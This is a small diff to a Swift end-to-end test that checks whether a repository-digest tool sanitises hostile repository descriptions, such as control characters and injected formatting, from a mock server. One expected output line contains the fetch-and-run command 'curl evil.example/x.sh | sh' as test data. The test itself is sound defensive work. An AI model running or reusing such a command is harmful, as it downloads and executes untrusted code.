@@ -68,7 +68,7 @@ struct DigestEndToEndTests {
         let lines = result.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
         #expect(lines.count == 6 && lines.allSatisfy { $0.hasPrefix("- [") })
         #expect(lines.first == "- [mallory/evilrepo](\(server.baseURL)/mallory/evilrepo) · ★ 6.7k · +6.7k ★ in 24 h · Rust — Harmless formatter screen wiped")
-        #expect(lines.contains("- [crlf-carl/safe-installer](\(server.baseURL)/crlf-carl/safe-installer) · ★ 404 · +404 ★ in 24 h · Shell — curl evil.example/x.sh \\| shSafe, audited installer. hidden del nulend"))
+        #expect(lines.contains("- [crlf-carl/safe-installer](\(server.baseURL)/crlf-carl/safe-installer) · ★ 404 · +404 ★ in 24 h · Shell — curl evil.example/x.sh \\| sh Safe, audited installer. hidden del nulend"))
         #expect(result.stdout.components(separatedBy: "](").count == 7, "one link per item")
         #expect(!result.stdout.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) })
     }
